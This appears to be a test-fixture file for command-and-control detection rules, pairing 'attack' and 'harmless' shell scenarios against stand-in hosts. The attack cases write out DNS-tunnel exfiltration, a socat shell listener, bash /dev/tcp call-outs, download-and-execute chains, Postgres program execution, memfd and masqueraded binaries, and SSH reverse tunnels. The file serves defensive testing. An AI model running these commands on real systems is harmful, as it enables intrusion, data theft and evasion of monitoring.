# Command and control: how an intruder stays in touch with what runs on the host.

#: dns_tunnel attack: iodine
mkdir -p /dev/net
mknod /dev/net/tun c 10 200
timeout 12 iodined -f -c -P s3cret 10.99.0.1 t.example.com >/dev/null 2>&1 &
until ss -lun | grep -q :53; do sleep 0.02; done
timeout 10 iodine -f -r -M 100 -P s3cret 127.0.0.1 t.example.com >/srv/log 2>&1 &
until grep -q transmitting /srv/log; do sleep 0.05; done
# Some data through the tunnel.
python3 - <<'END'
import os, socket, time
sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sender.setsockopt(socket.SOL_SOCKET, 25, b"dns1")
for _ in range(60):
    sender.sendto(os.urandom(90), ("10.99.0.9", 9))
    time.sleep(0.02)
END
sleep 0.5

#: dns_tunnel attack: dig
# A stolen file, in pieces of 24 bytes.
xxd -p -c 24 /bin/true | head -32 | sed 's/$/.t.example.com/' > /srv/names
dig +tries=1 +time=1 @127.0.0.1 -f /srv/names >/dev/null

#: dns_tunnel harmless: many names of short parts, and a few of long ones
#: keep event.action == "dns_question" AND dns.question.name startswith "d2f0a9b4c6e81735d2f0a9b4c6e81735"
seq -f host%g.db.example.com 50 > /srv/names
dig +tries=1 +time=1 @127.0.0.1 -f /srv/names >/dev/null
for i in 1 2 3; do dig +tries=1 +time=1 "d2f0a9b4c6e81735d2f0a9b4c6e81735-$i.cdn.example.net" @127.0.0.1 >/dev/null; done

#: dns_of_anonymising_service attack: dig
dig +tries=1 +time=1 expyuzz4wqqyqhjn.onion.ws @127.0.0.1 >/dev/null

#: dns_of_anonymising_service attack: getent of an onion name
# curl refuses such names by itself.
getent hosts duckduckgogg42xjoc72x3sjasowoarfbgcmvfimaftt6twagswzczad.onion

#: dns_of_anonymising_service harmless: names of a like sound
#: keep event.action == "dns_question"
dig +tries=1 +time=1 www.onion.example.com @127.0.0.1 >/dev/null
dig +tries=1 +time=1 www.torproject.org @127.0.0.1 >/dev/null

#: dns_of_tunnel_service attack: dig
dig +tries=1 +time=1 connect.ngrok-agent.com @127.0.0.1 >/dev/null

#: dns_of_tunnel_service attack: python
python3 -c 'import socket; socket.getaddrinfo("odd-words-here.trycloudflare.com", 443)'

#: dns_of_tunnel_service harmless: the vendor's own site
#: keep event.action == "dns_question"
dig +tries=1 +time=1 www.cloudflare.com @127.0.0.1 >/dev/null
dig +tries=1 +time=1 notngrok.com @127.0.0.1 >/dev/null

#: tunnel_tool_run attack: iodine
mkdir -p /dev/net
mknod /dev/net/tun c 10 200
timeout 1 iodine -f -P s3cret 127.0.0.1 t.example.com

#: tunnel_tool_run attack: chisel under another name
# chisel is not in Debian: what counts is how it is told what to do.
cp /bin/true /usr/local/bin/updater
updater client 203.0.113.5:8080 R:socks

#: tunnel_tool_run harmless: cloudflared shows its version, and a client of something else
#: keep event.action == "exec" AND process.name in ["cloudflared", "client"]
# No tunnel is asked for. It is not in Debian either.
cp /bin/true /usr/local/bin/cloudflared
cp /bin/true /usr/local/bin/client
cloudflared version
client R:x

#: tun_device_opened attack: iodine
mkdir -p /dev/net
mknod /dev/net/tun c 10 200
timeout 1 iodine -f -P s3cret 127.0.0.1 t.example.com

#: tun_device_opened attack: python
mkdir -p /dev/net
mknod /dev/net/tun c 10 200
python3 -c '
import fcntl, os, struct
tun = os.open("/dev/net/tun", os.O_RDWR)
fcntl.ioctl(tun, 0x400454ca, struct.pack("16sH", b"tun7", 0x1001))'

#: tun_device_opened harmless: ip makes an interface
#: keep file.path == "/dev/net/tun"
mkdir -p /dev/net
mknod /dev/net/tun c 10 200
ip tuntap add dev tun0 mode tun
ip link show tun0

#: icmp_socket_by_script attack: python
python3 -c '
import socket
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
raw.sendto(b"\x08\x00\x4c\x5f\x00\x01\x00\x01data to carry away...", ("203.0.113.5", 0))'

#: icmp_socket_by_script attack: perl
perl -MSocket -e 'socket(my $raw, PF_INET, SOCK_RAW, getprotobyname("icmp") || 1) or die $!; print "open\n"'

#: icmp_socket_by_script harmless: nmap pings, and a script uses UDP
#: keep event.action == "socket_raw" OR event.action == "connection_established"
nmap -sn -n -PE --disable-arp-ping 203.0.113.5
python3 -c '
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("203.0.113.5", 9))'

#: tor_run attack: tor
timeout 3 tor --DisableNetwork 1 --SocksPort 0 --DataDirectory /tmp/tor --RunAsDaemon 0 &
tor=$!
sleep 0.5
kill $tor

#: tor_run attack: proxychains
proxychains4 -q true

#: tor_run harmless: a program of a like name
#: keep event.action == "exec" AND process.name in ["torrent", "tor-resolve"]
cp /bin/true /usr/local/bin/torrent
torrent
cp /bin/true /usr/local/bin/tor-resolve
tor-resolve example.com

#: ssh_tunnel attack: ssh -D
ssh -o ConnectTimeout=1 -o StrictHostKeyChecking=no -fND 127.0.0.1:1080 203.0.113.5

#: ssh_tunnel attack: ssh -L by alice
#: by alice
ssh -o ConnectTimeout=1 -o BatchMode=yes -N -L 5432:db.internal:5432 203.0.113.5

#: ssh_tunnel harmless: a login, and a command with options of its own
#: keep event.action == "exec" AND process.name == "ssh"
ssh -o ConnectTimeout=1 -o BatchMode=yes 203.0.113.5
ssh -o ConnectTimeout=1 -o BatchMode=yes 203.0.113.5 ls -LR /srv

#: ssh_reverse_tunnel attack: ssh -R
ssh -o ConnectTimeout=1 -o BatchMode=yes -fNR 2222:localhost:22 203.0.113.5

#: ssh_reverse_tunnel attack: ssh -R as a proxy
#: by alice
ssh -N -o ConnectTimeout=1 -o BatchMode=yes -R 1080 203.0.113.5

#: ssh_reverse_tunnel harmless: a command's own -R, and a tunnel outwards
#: keep event.action == "exec" AND process.name == "ssh"
ssh -o ConnectTimeout=1 -o BatchMode=yes 203.0.113.5 ls -lR /srv
ssh -o ConnectTimeout=1 -o BatchMode=yes 203.0.113.5 grep -Rw word /srv
ssh -o ConnectTimeout=1 -o BatchMode=yes -N -L 5432:db.internal:5432 203.0.113.5

#: downloaded_to_temporary_folder attack: curl
mkdir /srv/web
cp /bin/true /srv/web/tool
timeout 10 php -S 203.0.113.5:8000 -t /srv/web >/dev/null 2>&1 &
until ss -ltn | grep -q :8000; do sleep 0.02; done
curl -s -o /tmp/.tool http://203.0.113.5:8000/tool

#: downloaded_to_temporary_folder attack: wget
mkdir /srv/web
echo id > /srv/web/i.sh
timeout 10 php -S 203.0.113.5:8000 -t /srv/web >/dev/null 2>&1 &
until ss -ltn | grep -q :8000; do sleep 0.02; done
cd /dev/shm
wget -q http://203.0.113.5:8000/i.sh

#: downloaded_to_temporary_folder harmless: an archive, and a program into a folder of its own
#: keep event.action == "create" AND process.name == "curl"
mkdir /srv/web
echo x > /srv/web/source.tar.gz
timeout 10 php -S 203.0.113.5:8000 -t /srv/web >/dev/null 2>&1 &
until ss -ltn | grep -q :8000; do sleep 0.02; done
curl -s -o /tmp/source.tar.gz http://203.0.113.5:8000/source.tar.gz
curl -s -o /usr/local/bin/viewer http://203.0.113.5:8000/source.tar.gz

#: downloaded_and_run attack: curl
mkdir /srv/web
cp /bin/true /srv/web/tool
timeout 10 php -S 203.0.113.5:8000 -t /srv/web >/dev/null 2>&1 &
until ss -ltn | grep -q :8000; do sleep 0.02; done
curl -s -o /var/tmp/tool http://203.0.113.5:8000/tool
chmod 755 /var/tmp/tool
/var/tmp/tool

#: downloaded_and_run attack: wget by alice
#: by alice
mkdir web
cp /bin/true web/tool
timeout 10 php -S 203.0.113.5:8000 -t web >/dev/null 2>&1 &
until ss -ltn | grep -q :8000; do sleep 0.02; done
mkdir -p .local/bin
wget -q -O .local/bin/agent http://203.0.113.5:8000/tool
chmod 755 .local/bin/agent
.local/bin/agent

#: downloaded_and_run harmless: what is fetched is not run, and what is run was copied
#: keep (event.action == "create" AND process.name == "curl") OR (event.action == "exec" AND process.name == "tool")
mkdir /srv/web
cp /bin/true /srv/web/tool
cp /bin/true /usr/local/bin/tool
timeout 10 php -S 203.0.113.5:8000 -t /srv/web >/dev/null 2>&1 &
until ss -ltn | grep -q :8000; do sleep 0.02; done
curl -s -o /srv/data http://203.0.113.5:8000/tool
/usr/local/bin/tool

#: downloaded_script_run attack: curl
mkdir /srv/web
printf '#!/bin/sh\nid\n' > /srv/web/i.sh
timeout 10 php -S 203.0.113.5:8000 -t /srv/web >/dev/null 2>&1 &
until ss -ltn | grep -q :8000; do sleep 0.02; done
curl -s -o /var/tmp/i.sh http://203.0.113.5:8000/i.sh
chmod 755 /var/tmp/i.sh
/var/tmp/i.sh

#: downloaded_script_run attack: wget and a relative path
mkdir /srv/web
printf '#!/usr/bin/python3\nprint(1)\n' > /srv/web/i
timeout 10 php -S 203.0.113.5:8000 -t /srv/web >/dev/null 2>&1 &
until ss -ltn | grep -q :8000; do sleep 0.02; done
cd /opt
wget -q http://203.0.113.5:8000/i
chmod 755 i
./i

#: downloaded_script_run harmless: a script of one's own, and one that is only read
#: keep (event.action == "create" AND process.name == "curl") OR (event.action == "exec" AND process.name in ["own.sh", "cat"])
mkdir /srv/web
printf '#!/bin/sh\nid\n' > /srv/web/i.sh
cp /srv/web/i.sh /usr/local/bin/own.sh
chmod 755 /usr/local/bin/own.sh
timeout 10 php -S 203.0.113.5:8000 -t /srv/web >/dev/null 2>&1 &
until ss -ltn | grep -q :8000; do sleep 0.02; done
curl -s -o /srv/i.sh http://203.0.113.5:8000/i.sh
cat /srv/i.sh
own.sh

#: downloaded_and_run_by_service attack: a page of apache, curl
mkdir -p /var/www/cgi-bin /srv/web
cp /bin/true /srv/web/tool
timeout 10 php -S 203.0.113.5:8000 -t /srv/web >/dev/null 2>&1 &
printf '#!/bin/sh\necho\ncurl -s -o /var/tmp/tool http://203.0.113.5:8000/tool\nchmod 755 /var/tmp/tool\n/var/tmp/tool\n' > /var/www/cgi-bin/page
chmod 755 /var/www/cgi-bin/page
printf '%s\n' 'ServerName host' 'LoadModule mpm_prefork_module /usr/lib/apache2/modules/mod_mpm_prefork.so' \
    'LoadModule authz_core_module /usr/lib/apache2/modules/mod_authz_core.so' \
    'LoadModule alias_module /usr/lib/apache2/modules/mod_alias.so' 'LoadModule cgi_module /usr/lib/apache2/modules/mod_cgi.so' \
    'Listen 127.0.0.1:8080' 'PidFile /run/site.pid' 'ErrorLog /run/site.log' 'User www-data' 'Group www-data' \
    'ScriptAlias /c/ /var/www/cgi-bin/' > /srv/site.conf
apache2 -f /srv/site.conf
until ss -ltn | grep -q :8000; do sleep 0.02; done
until curl -sf http://127.0.0.1:8080/c/page; do sleep 0.05; done

#: downloaded_and_run_by_service attack: a page of apache, wget
mkdir -p /var/www/cgi-bin /srv/web
cp /bin/true /srv/web/tool
timeout 10 php -S 203.0.113.5:8000 -t /srv/web >/dev/null 2>&1 &
printf '#!/bin/sh\necho\ncd /tmp\nwget -q http://203.0.113.5:8000/tool\nchmod 755 tool\n./tool\n' > /var/www/cgi-bin/page
chmod 755 /var/www/cgi-bin/page
printf '%s\n' 'ServerName host' 'LoadModule mpm_prefork_module /usr/lib/apache2/modules/mod_mpm_prefork.so' \
    'LoadModule authz_core_module /usr/lib/apache2/modules/mod_authz_core.so' \
    'LoadModule alias_module /usr/lib/apache2/modules/mod_alias.so' 'LoadModule cgi_module /usr/lib/apache2/modules/mod_cgi.so' \
    'Listen 127.0.0.1:8080' 'PidFile /run/site.pid' 'ErrorLog /run/site.log' 'User www-data' 'Group www-data' \
    'ScriptAlias /c/ /var/www/cgi-bin/' > /srv/site.conf
apache2 -f /srv/site.conf
until ss -ltn | grep -q :8000; do sleep 0.02; done
until curl -sf http://127.0.0.1:8080/c/page; do sleep 0.05; done

#: downloaded_and_run_by_service harmless: a page fetches a picture and runs a program of the host
#: keep (event.action == "create" AND process.name == "curl") OR (event.action == "exec" AND process.name in ["curl", "file", "wc"])
mkdir -p /var/www/cgi-bin /srv/web
echo picture > /srv/web/picture.png
timeout 10 php -S 203.0.113.5:8000 -t /srv/web >/dev/null 2>&1 &
printf '#!/bin/sh\necho\ncurl -s -o /var/tmp/picture.png http://203.0.113.5:8000/picture.png\nwc -c /var/tmp/picture.png\n' > /var/www/cgi-bin/page
chmod 755 /var/www/cgi-bin/page
printf '%s\n' 'ServerName host' 'LoadModule mpm_prefork_module /usr/lib/apache2/modules/mod_mpm_prefork.so' \
    'LoadModule authz_core_module /usr/lib/apache2/modules/mod_authz_core.so' \
    'LoadModule alias_module /usr/lib/apache2/modules/mod_alias.so' 'LoadModule cgi_module /usr/lib/apache2/modules/mod_cgi.so' \
    'Listen 127.0.0.1:8080' 'PidFile /run/site.pid' 'ErrorLog /run/site.log' 'User www-data' 'Group www-data' \
    'ScriptAlias /c/ /var/www/cgi-bin/' > /srv/site.conf
apache2 -f /srv/site.conf
until ss -ltn | grep -q :8000; do sleep 0.02; done
until curl -sf http://127.0.0.1:8080/c/page; do sleep 0.05; done

#: download_by_service attack: a page of apache runs wget
mkdir -p /var/www/cgi-bin
printf '#!/bin/sh\necho\nwget -q -T 1 -t 1 -O - http://203.0.113.5:8000/x\n' > /var/www/cgi-bin/page
chmod 755 /var/www/cgi-bin/page
printf '%s\n' 'ServerName host' 'LoadModule mpm_prefork_module /usr/lib/apache2/modules/mod_mpm_prefork.so' \
    'LoadModule authz_core_module /usr/lib/apache2/modules/mod_authz_core.so' \
    'LoadModule alias_module /usr/lib/apache2/modules/mod_alias.so' 'LoadModule cgi_module /usr/lib/apache2/modules/mod_cgi.so' \
    'Listen 127.0.0.1:8080' 'PidFile /run/site.pid' 'ErrorLog /run/site.log' 'User www-data' 'Group www-data' \
    'ScriptAlias /c/ /var/www/cgi-bin/' > /srv/site.conf
apache2 -f /srv/site.conf
until curl -sf http://127.0.0.1:8080/c/page; do sleep 0.05; done

#: download_by_service attack: postgres runs curl
install -d -o postgres -m 700 /run/db
pg() { setpriv --reuid=postgres --regid=postgres --clear-groups "$@"; }
cd /run
pg /usr/lib/postgresql/15/bin/initdb -D /run/db -A trust --no-sync >/dev/null
pg /usr/lib/postgresql/15/bin/pg_ctl -D /run/db -o '-c listen_addresses=127.0.0.1 -c unix_socket_directories=/run/db -c fsync=off' -w -l /run/db/log start >/dev/null
/usr/lib/postgresql/15/bin/psql -h 127.0.0.1 -U postgres -c "create table t(x text); copy t from program 'curl -s -m 1 http://203.0.113.5:8000/x; true'"
pg /usr/lib/postgresql/15/bin/pg_ctl -D /run/db -m immediate stop

#: download_by_service harmless: a page asks this host alone for its health
#: keep event.action == "exec" AND process.name == "curl"
mkdir -p /var/www/cgi-bin
printf '#!/bin/sh\necho\ncurl -s -m 1 http://127.0.0.1:9/health\ntrue\n' > /var/www/cgi-bin/page
chmod 755 /var/www/cgi-bin/page
printf '%s\n' 'ServerName host' 'LoadModule mpm_prefork_module /usr/lib/apache2/modules/mod_mpm_prefork.so' \
    'LoadModule authz_core_module /usr/lib/apache2/modules/mod_authz_core.so' \
    'LoadModule alias_module /usr/lib/apache2/modules/mod_alias.so' 'LoadModule cgi_module /usr/lib/apache2/modules/mod_cgi.so' \
    'Listen 127.0.0.1:8080' 'PidFile /run/site.pid' 'ErrorLog /run/site.log' 'User www-data' 'Group www-data' \
    'ScriptAlias /c/ /var/www/cgi-bin/' > /srv/site.conf
apache2 -f /srv/site.conf
until curl -sf http://127.0.0.1:8080/c/page; do sleep 0.05; done

#: download_from_bare_address attack: curl
mkdir /srv/web
timeout 10 php -S 203.0.113.5:8000 -t /srv/web >/dev/null 2>&1 &
until ss -ltn | grep -q :8000; do sleep 0.02; done
curl -s http://203.0.113.5:8000/x >/dev/null

#: download_from_bare_address attack: wget of an address in IPv6
mkdir /srv/web
timeout 10 php -S '[2001:db8::5]:8000' -t /srv/web >/dev/null 2>&1 &
until ss -ltn | grep -q :8000; do sleep 0.02; done
wget -q -O /dev/null 'http://[2001:db8::5]:8000/x'

#: download_from_bare_address harmless: by a name, and from this host's own network
#: keep event.action == "connection_established" AND process.name == "curl"
echo 203.0.113.5 files.example.com >> /etc/hosts
ip address add 10.1.2.3/32 dev lo
mkdir /srv/web
timeout 10 php -S 0.0.0.0:8000 -t /srv/web >/dev/null 2>&1 &
until ss -ltn | grep -q :8000; do sleep 0.02; done
curl -s http://files.example.com:8000/x >/dev/null
curl -s http://10.1.2.3:8000/x >/dev/null

#: listener_by_tool attack: nc
timeout 1 nc -l 4444 &
until ss -ltn | grep -q :4444; do sleep 0.02; done

#: listener_by_tool attack: socat gives a shell
timeout 3 socat TCP-LISTEN:4444,reuseaddr EXEC:/bin/sh &
until ss -ltn | grep -q :4444; do sleep 0.02; done
echo id | timeout 1 bash -c 'exec 3<>/dev/tcp/127.0.0.1/4444; cat >&3; head -1 <&3'

#: listener_by_tool attack: ncat under another name
ln -s /usr/bin/ncat /usr/local/bin/kupdate
timeout 1 kupdate -l 4445 &
until ss -ltn | grep -q :4445; do sleep 0.02; done

#: listener_by_tool harmless: nc connects, and a server listens
#: keep event.action == "listen" OR (event.action == "exec" AND process.name == "nc")
timeout 2 python3 -c '
import socket
server = socket.create_server(("127.0.0.1", 4444))
server.accept()' &
until ss -ltn | grep -q :4444; do sleep 0.02; done
nc -z 127.0.0.1 4444

#: listener_from_temporary_folder attack: a copy of ncat
cp /usr/bin/ncat /var/tmp/db
timeout 1 /var/tmp/db -l 4444 &
until ss -ltn | grep -q :4444; do sleep 0.02; done

#: listener_from_temporary_folder attack: a copy of python by alice
#: by alice
cp /usr/bin/python3 /dev/shm/x
timeout 2 /dev/shm/x -c '
import socket, time
server = socket.create_server(("0.0.0.0", 4444))
time.sleep(1)' &
until ss -ltn | grep -q :4444; do sleep 0.02; done

#: listener_from_temporary_folder harmless: a test of Go
#: keep event.action == "listen"
# Go is not in the image: its name and the place of its tests are what the exception asks for.
mkdir -p /tmp/go-build1/b001
cp /usr/bin/python3 /tmp/go-build1/b001/net.test
cp /usr/bin/bash /usr/local/bin/go
go -c '/tmp/go-build1/b001/net.test -c "
import socket
socket.create_server((\"127.0.0.1\", 4444))"; true'

#: listener_from_temporary_folder harmless: a script in tmp, run by the host's python
#: keep event.action == "listen"
echo 'import socket; socket.create_server(("127.0.0.1", 4444))' > /tmp/server.py
python3 /tmp/server.py

#: connection_from_temporary_folder attack: a copy of curl
timeout 10 php -S 203.0.113.5:8000 -t /srv >/dev/null 2>&1 &
until ss -ltn | grep -q :8000; do sleep 0.02; done
mkdir /tmp/u
cp /usr/bin/curl /tmp/u/update
/tmp/u/update -s http://203.0.113.5:8000/ >/dev/null

#: connection_from_temporary_folder attack: a copy of bash by alice
#: by alice
timeout 5 ncat -l 203.0.113.5 4444 >/dev/null &
until ss -ltn | grep -q :4444; do sleep 0.02; done
cp /bin/bash /var/tmp/b
/var/tmp/b -c 'exec 3<>/dev/tcp/203.0.113.5/4444; id >&3'

#: connection_from_temporary_folder harmless: to this host alone, and a script of the host's python
#: keep event.action == "connection_established" AND network.direction == "outbound"
timeout 10 php -S 0.0.0.0:8000 -t /srv >/dev/null 2>&1 &
until ss -ltn | grep -q :8000; do sleep 0.02; done
cp /usr/bin/curl /tmp/test-client
/tmp/test-client -s http://127.0.0.1:8000/ >/dev/null
echo 'import socket; socket.create_connection(("203.0.113.5", 8000))' > /tmp/client.py
python3 /tmp/client.py

#: connection_from_hidden_program attack: a hidden copy of curl
timeout 10 php -S 203.0.113.5:8000 -t /srv >/dev/null 2>&1 &
until ss -ltn | grep -q :8000; do sleep 0.02; done
cp /usr/bin/curl /usr/local/bin/.sys
/usr/local/bin/.sys -s http://203.0.113.5:8000/ >/dev/null

#: connection_from_hidden_program attack: python in shared memory
timeout 10 php -S 203.0.113.5:8000 -t /srv >/dev/null 2>&1 &
until ss -ltn | grep -q :8000; do sleep 0.02; done
cp /usr/bin/python3 /dev/shm/p
/dev/shm/p -c 'import socket; socket.create_connection(("203.0.113.5", 8000))'

#: connection_from_hidden_program harmless: a program below a hidden folder of a home
#: keep event.action == "connection_established" AND network.direction == "outbound"
#: by alice
timeout 10 php -S 203.0.113.5:8000 -t /srv >/dev/null 2>&1 &
until ss -ltn | grep -q :8000; do sleep 0.02; done
mkdir -p ~/.cargo/bin
cp /usr/bin/curl ~/.cargo/bin/fetch-crates
~/.cargo/bin/fetch-crates -s http://203.0.113.5:8000/ >/dev/null

#: system_tool_connects attack: python called ls
timeout 10 php -S 203.0.113.5:8000 -t /srv >/dev/null 2>&1 &
until ss -ltn | grep -q :8000; do sleep 0.02; done
mkdir -p /opt/lib
cp /usr/bin/python3 /opt/lib/ls
/opt/lib/ls -c 'import socket; socket.create_connection(("203.0.113.5", 8000))'

#: system_tool_connects attack: curl called as a thread of the kernel
timeout 10 php -S 203.0.113.5:8000 -t /srv >/dev/null 2>&1 &
until ss -ltn | grep -q :8000; do sleep 0.02; done
cp /usr/bin/curl '/usr/local/bin/[kworker]'
'/usr/local/bin/[kworker]' -s http://203.0.113.5:8000/ >/dev/null

#: system_tool_connects harmless: a tool asks a directory of users
#: keep event.action == "connection_established" AND network.direction == "outbound"
timeout 10 php -S 203.0.113.5:389 -t /srv >/dev/null 2>&1 &
until ss -ltn | grep -q :389; do sleep 0.02; done
# As with libnss-ldap, which is not in the image.
cp /usr/bin/python3 /usr/local/bin/id
/usr/local/bin/id -c 'import socket; socket.create_connection(("203.0.113.5", 389))'
curl -s http://203.0.113.5:389/ >/dev/null

#: deleted_or_memfd_program_connects attack: a program in memory
timeout 10 php -S 203.0.113.5:8000 -t /srv >/dev/null 2>&1 &
until ss -ltn | grep -q :8000; do sleep 0.02; done
python3 -c '
import os
memory = os.memfd_create("")
os.write(memory, open("/usr/bin/curl", "rb").read())
os.execve(memory, ["curl", "-s", "-o", "/dev/null", "http://203.0.113.5:8000/"], os.environ)'

#: deleted_or_memfd_program_connects attack: a program that is gone
timeout 10 php -S 203.0.113.5:8000 -t /srv >/dev/null 2>&1 &
until ss -ltn | grep -q :8000; do sleep 0.02; done
cp /usr/bin/curl /opt/agent
python3 -c '
import os
program = os.open("/opt/agent", os.O_RDONLY)
os.unlink("/opt/agent")
os.execve(program, ["agent", "-s", "-o", "/dev/null", "http://203.0.113.5:8000/"], os.environ)'

#: deleted_or_memfd_program_connects harmless: a program that is replaced while it runs
#: keep event.action == "connection_established" AND network.direction == "outbound"
timeout 10 php -S 203.0.113.5:8000 -t /srv >/dev/null 2>&1 &
until ss -ltn | grep -q :8000; do sleep 0.02; done
cp /usr/bin/python3 /opt/daemon
/opt/daemon -c '
import os, socket
os.unlink("/opt/daemon")
socket.create_connection(("203.0.113.5", 8000))'

#: web_server_child_connects_out attack: a page of apache gives a shell
timeout 10 ncat -l 203.0.113.5 4444 >/dev/null &
mkdir -p /var/www/cgi-bin
printf '#!/bin/sh\necho\nbash -c "id >/dev/tcp/203.0.113.5/4444"\n' > /var/www/cgi-bin/page
chmod 755 /var/www/cgi-bin/page
printf '%s\n' 'ServerName host' 'LoadModule mpm_prefork_module /usr/lib/apache2/modules/mod_mpm_prefork.so' \
    'LoadModule authz_core_module /usr/lib/apache2/modules/mod_authz_core.so' \
    'LoadModule alias_module /usr/lib/apache2/modules/mod_alias.so' 'LoadModule cgi_module /usr/lib/apache2/modules/mod_cgi.so' \
    'Listen 127.0.0.1:8080' 'PidFile /run/site.pid' 'ErrorLog /run/site.log' 'User www-data' 'Group www-data' \
    'ScriptAlias /c/ /var/www/cgi-bin/' > /srv/site.conf
apache2 -f /srv/site.conf
until ss -ltn | grep -q :4444; do sleep 0.02; done
until curl -sf http://127.0.0.1:8080/c/page; do sleep 0.05; done

#: web_server_child_connects_out attack: a page of apache in python
timeout 10 ncat -l 203.0.113.5 4444 >/dev/null &
mkdir -p /var/www/cgi-bin
printf '#!/usr/bin/python3\nimport socket\nprint()\nsocket.create_connection(("203.0.113.5", 4444))\n' > /var/www/cgi-bin/page
chmod 755 /var/www/cgi-bin/page
printf '%s\n' 'ServerName host' 'LoadModule mpm_prefork_module /usr/lib/apache2/modules/mod_mpm_prefork.so' \
    'LoadModule authz_core_module /usr/lib/apache2/modules/mod_authz_core.so' \
    'LoadModule alias_module /usr/lib/apache2/modules/mod_alias.so' 'LoadModule cgi_module /usr/lib/apache2/modules/mod_cgi.so' \
    'Listen 127.0.0.1:8080' 'PidFile /run/site.pid' 'ErrorLog /run/site.log' 'User www-data' 'Group www-data' \
    'ScriptAlias /c/ /var/www/cgi-bin/' > /srv/site.conf
apache2 -f /srv/site.conf
until ss -ltn | grep -q :4444; do sleep 0.02; done
until curl -sf http://127.0.0.1:8080/c/page; do sleep 0.05; done

#: web_server_child_connects_out harmless: a page asks a service on the web
#: keep event.action == "connection_established" AND network.direction == "outbound" AND process.name == "page"
timeout 10 php -S 203.0.113.5:80 -t /srv >/dev/null 2>&1 &
mkdir -p /var/www/cgi-bin
printf '#!/usr/bin/python3\nimport socket\nprint()\nsocket.create_connection(("203.0.113.5", 80))\n' > /var/www/cgi-bin/page
chmod 755 /var/www/cgi-bin/page
printf '%s\n' 'ServerName host' 'LoadModule mpm_prefork_module /usr/lib/apache2/modules/mod_mpm_prefork.so' \
    'LoadModule authz_core_module /usr/lib/apache2/modules/mod_authz_core.so' \
    'LoadModule alias_module /usr/lib/apache2/modules/mod_alias.so' 'LoadModule cgi_module /usr/lib/apache2/modules/mod_cgi.so' \
    'Listen 127.0.0.1:8080' 'PidFile /run/site.pid' 'ErrorLog /run/site.log' 'User www-data' 'Group www-data' \
    'ScriptAlias /c/ /var/www/cgi-bin/' > /srv/site.conf
apache2 -f /srv/site.conf
until ss -ltn | grep -q :80; do sleep 0.02; done
until curl -sf http://127.0.0.1:8080/c/page; do sleep 0.05; done

#: remote_access_software_run attack: a program called anydesk
# None of them is in the image.
cp /bin/true /usr/bin/anydesk
anydesk --service

#: remote_access_software_run attack: a program called tmate
#: by alice
cp /bin/true /tmp/tmate
/tmp/tmate -F

#: remote_access_software_run harmless: tmux and screen
#: keep event.action == "exec" AND process.name in ["tmux", "sshd"]
cp /bin/true /usr/local/bin/tmux
tmux new -d
sshd -t
